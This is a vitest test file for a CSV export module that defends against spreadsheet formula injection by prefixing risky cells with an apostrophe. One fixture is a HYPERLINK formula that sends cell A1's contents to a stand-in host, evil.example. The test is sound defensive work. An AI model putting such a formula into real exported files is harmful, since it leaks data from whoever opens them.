import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvStream, neutraliseCell, parseCsv, readCell, toCsv } from './csv';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const hostile = [HYPERLINK, '+91 98220 45678', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', "'=already quoted", "''-twice"];

/** The cells as a spreadsheet reads the file: no library of ours in between. */
const cellsOf = (csv: string) => parse(csv, { bom: true }) as string[][];

describe('CSV cells a spreadsheet would run as a formula', () => {
  it('are written with a leading apostrophe, every one of = + - @ tab and carriage return', () => {
    const [row] = cellsOf(toCsv([hostile]));
    expect(row).toEqual([
      `'${HYPERLINK}`,
      "'+91 98220 45678",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      "'\rReturned",
      "''=already quoted",
      "'''-twice",
    ]);
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leave plain numbers, dates and ordinary text as they are', () => {
    const safe = ['-1250.50', '+5', '-0.5', '42', '2026-04-01 01:30', 'Pune Tech Hub', "O'Brien", 'a=b', 'सायली देशपांडे', ''];
    expect(cellsOf(toCsv([safe]))[0]).toEqual(safe);
    expect(cellsOf(toCsv([[-1250.5, 0, null]]))[0]).toEqual(['-1250.5', '0', '']);
  });

  it('read back exactly as they were given, also from records by header', () => {
    expect(hostile.map((v) => readCell(neutraliseCell(v)))).toEqual(hostile);
    const records = hostile.map((name, i) => ({ id: String(i), name }));
    const csv = toCsv(records, { header: true, columns: ['id', 'name'] });
    expect(csv.startsWith('\uFEFFid,name')).toBe(true);
    expect(parseCsv(csv, { columns: true })).toEqual(records);
  });

  it('reads a cell a person typed with an apostrophe as the text after it, as a spreadsheet shows it', () => {
    expect(parseCsv("name\n'=1+1\n'plain\n", { columns: true })).toEqual([{ name: '=1+1' }, { name: "'plain" }]);
  });

  it('are neutralised in a streamed download too', async () => {
    let text = '';
    for await (const chunk of csvStream([{ name: HYPERLINK }], { header: true, columns: ['name'] })) text += String(chunk);
    expect(cellsOf(text)).toEqual([['name'], [`'${HYPERLINK}`]]);
  });
});
